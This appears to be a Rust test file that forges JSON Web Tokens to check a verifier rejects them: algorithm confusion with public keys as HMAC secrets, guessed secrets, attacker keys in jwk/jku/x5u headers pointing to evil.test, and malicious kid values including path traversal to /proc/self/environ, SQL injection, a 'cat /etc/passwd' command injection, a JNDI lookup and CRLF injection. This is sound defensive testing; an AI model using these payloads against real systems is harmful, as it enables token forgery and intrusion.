//! Tokens signed with a key that must not count, beside those of one that does.

use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD},
};
use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

use super::{
    super::issuer::{SECRET, TestKey, hs256},
    Case,
};

pub fn cases() -> Vec<Case> {
    let mut cases = confused();
    cases.extend(guessed());
    cases.extend(embedded());
    cases.extend(foreign());
    cases.extend(named());
    cases
}

fn by_kid(key: &TestKey, kid: &str) -> String {
    key.token(json!({ "kid": kid }), json!({}))
}

/// A token of a published key, named by its `kid`.
fn good(kid: &str) -> String {
    let key = match kid {
        "rsa" => TestKey::rsa_a(),
        "ec" => TestKey::p256_a(),
        _ => TestKey::ed25519_a(),
    };
    by_kid(&key, kid)
}

/// A public key that is taken for a shared secret lets everybody sign: in each form in which
/// somebody may have given it to a server.
fn confused() -> Vec<Case> {
    let mut cases = Vec::new();
    for (kid, key) in [
        ("rsa", TestKey::rsa_a()),
        ("ec", TestKey::p256_a()),
        ("ed", TestKey::ed25519_a()),
    ] {
        let published = key.published(kid, json!({}));
        let member = |name: &str| published[name].as_str().expect("a member").to_owned();
        let raw = |name: &str| URL_SAFE_NO_PAD.decode(member(name)).expect("base64");
        // What stands in front of a key of this kind in DER (RFC 5280's SubjectPublicKeyInfo).
        let (short, bare, prefix) = match kid {
            "rsa" => (
                "n",
                [raw("n").as_slice(), &[2, 3, 1, 0, 1]].concat(),
                "30820122300d06092a864886f70d01010105000382010f003082010a0282010100",
            ),
            "ec" => (
                "x",
                [[4].as_slice(), &raw("x"), &raw("y")].concat(),
                "3059301306072a8648ce3d020106082a8648ce3d030107034200",
            ),
            _ => ("x", raw("x"), "302a300506032b6570032100"),
        };
        let der = [hex::decode(prefix).expect("hexadecimal"), bare.clone()].concat();
        let text = STANDARD.encode(&der);
        let lines: Vec<_> = text
            .as_bytes()
            .chunks(64)
            .map(String::from_utf8_lossy)
            .collect();
        let pem = format!(
            "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----",
            lines.join("\n")
        );
        for (form, secret) in [
            ("PEM", pem.clone().into_bytes()),
            ("PEM with a line end", format!("{pem}\n").into_bytes()),
            ("PEM of Windows", pem.replace('\n', "\r\n").into_bytes()),
            ("DER", der),
            ("base64 of DER", text.into_bytes()),
            ("bytes", bare.clone()),
            ("hexadecimal", hex::encode(&bare).into_bytes()),
            ("the member as written", member(short).into_bytes()),
            ("the member's bytes", raw(short)),
            ("the JWK", published.to_string().into_bytes()),
        ] {
            for algorithm in [Algorithm::HS256, Algorithm::HS512] {
                let forger = TestKey::secret(&secret, algorithm);
                cases.push(Case::tokens(
                    format!("keys: {algorithm:?} with the {kid} key as {form}"),
                    by_kid(&forger, kid),
                    good(kid),
                ));
            }
        }
    }
    cases
}

/// Secrets that are not the secret.
fn guessed() -> Vec<Case> {
    let half = &SECRET[..SECRET.len() / 2];
    [
        ("nothing", String::new()),
        (
            "another",
            "another-secret-of-more-than-32-bytes-in-all".to_owned(),
        ),
        ("half of it", half.to_owned()),
        ("it and a line end", format!("{SECRET}\n")),
        ("it in capitals", SECRET.to_uppercase()),
        ("it in base64", STANDARD.encode(SECRET)),
        ("what a key set gives away", "secret".to_owned()),
        ("the audience", super::AUDIENCE.to_owned()),
        ("the issuer", super::ISSUER.to_owned()),
    ]
    .into_iter()
    .map(|(name, secret)| {
        let forger = TestKey::secret(secret.as_bytes(), Algorithm::HS256);
        Case::tokens(
            format!("keys: as the secret, {name}"),
            forger.token(json!({ "kid": "oct" }), json!({})),
            hs256().token(json!({ "kid": "oct" }), json!({})),
        )
    })
    .collect()
}

/// Keys, or the way to them, in the header itself.
fn embedded() -> Vec<Case> {
    let (own, rsa) = (TestKey::rsa_b(), TestKey::rsa_a());
    let own_key = own.published("rsa", json!({ "use": null, "kid": null }));
    let secret = TestKey::secret(b"attacker", Algorithm::HS256);
    let mut cases: Vec<_> = [
        ("jwk", own_key),
        ("jku", json!("https://evil.test/jwks.json")),
        ("jku", json!("http://127.0.0.1:1/jwks.json")),
        ("jku", json!("file:///dev/zero")),
        ("x5u", json!("https://evil.test/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
    ]
    .into_iter()
    .enumerate()
    .map(|(n, (member, value))| {
        let header = json!({ "kid": "rsa", member: value });
        Case::tokens(
            format!("keys: {n}, the attacker's own in {member}"),
            own.token(header.clone(), json!({})),
            rsa.token(header, json!({})),
        )
    })
    .collect();
    let oct = json!({ "jwk": { "kty": "oct", "k": URL_SAFE_NO_PAD.encode("attacker") } });
    cases.push(Case::tokens(
        "keys: the attacker's secret in jwk",
        secret.token(oct.clone(), json!({})),
        hs256().token(oct, json!({})),
    ));
    cases
}

/// Real keys, where they do not belong.
fn foreign() -> Vec<Case> {
    let (rsa, ec, ed) = (TestKey::rsa_a(), TestKey::p256_a(), TestKey::ed25519_a());
    let own = TestKey::rsa_b();
    let case = |name: &str, hostile: String, kid: &str| {
        Case::tokens(format!("keys: {name}"), hostile, good(kid))
    };
    vec![
        case("another RSA key", by_kid(&own, "rsa"), "rsa"),
        case("another EC key", by_kid(&TestKey::p256_b(), "ec"), "ec"),
        case(
            "another Ed25519 key",
            by_kid(&TestKey::ed25519_b(), "ed"),
            "ed",
        ),
        case(
            "another RSA key, unnamed",
            own.token(json!({}), json!({})),
            "rsa",
        ),
        case(
            "another EC key, unnamed",
            TestKey::p256_b().token(json!({}), json!({})),
            "ec",
        ),
        case("RSA under the EC key's name", by_kid(&rsa, "ec"), "rsa").naming_new_key(),
        case("EC under the RSA key's name", by_kid(&ec, "rsa"), "ec").naming_new_key(),
        case("Ed25519 under the EC key's name", by_kid(&ed, "ec"), "ed").naming_new_key(),
        case(
            "a curve that is not configured",
            by_kid(&TestKey::p384_a(), "ec"),
            "ec",
        ),
        case(
            "PSS where the key is for PKCS1",
            by_kid(&TestKey::rsa_a().signing(Algorithm::PS256), "rsa"),
            "rsa",
        ),
        case(
            "SHA-512 where the key is for SHA-256",
            by_kid(&TestKey::rsa_a().signing(Algorithm::RS512), "rsa"),
            "rsa",
        ),
        Case::tokens(
            "keys: HS512 where HS256 is configured",
            TestKey::secret(SECRET.as_bytes(), Algorithm::HS512).token(json!({}), json!({})),
            hs256().token(json!({}), json!({})),
        ),
    ]
}

/// Names of keys that lead elsewhere in servers that look them up in files and databases.
fn named() -> Vec<Case> {
    let rsa = TestKey::rsa_a();
    let names: [(&str, Value); 14] = [
        ("not published", json!("gone")),
        ("empty", json!("")),
        ("a path", json!("../../dev/null")),
        ("an absolute path", json!("/proc/self/environ")),
        ("a URL", json!("https://evil.test/key")),
        ("SQL", json!("x' UNION SELECT 'secret' --")),
        ("a command", json!("key | cat /etc/passwd")),
        ("a template", json!("${jndi:ldap://evil.test}")),
        ("U+0000 behind a known one", json!("rsa\0")),
        (
            "a line break behind a known one",
            json!("rsa\r\nSet-Cookie: a=b"),
        ),
        ("a space before a known one", json!(" rsa")),
        ("a known one in capitals", json!("RSA")),
        ("a letter that only looks the same", json!("rs\u{430}")),
        ("four kilobytes", json!("k".repeat(4_000))),
    ];
    let mut cases: Vec<_> = names
        .into_iter()
        .map(|(name, kid)| {
            Case::tokens(
                format!("keys: the name of a key is {name}"),
                rsa.token(json!({ "kid": kid }), json!({})),
                good("rsa"),
            )
            .naming_new_key()
        })
        .collect();
    // The symmetric key of a published set: everybody knows it.
    let published = TestKey::secret(b"secret", Algorithm::HS256);
    cases.push(Case::tokens(
        "keys: a published symmetric key",
        by_kid(&published, "oct"),
        by_kid(&hs256(), "oct"),
    ));
    cases
}
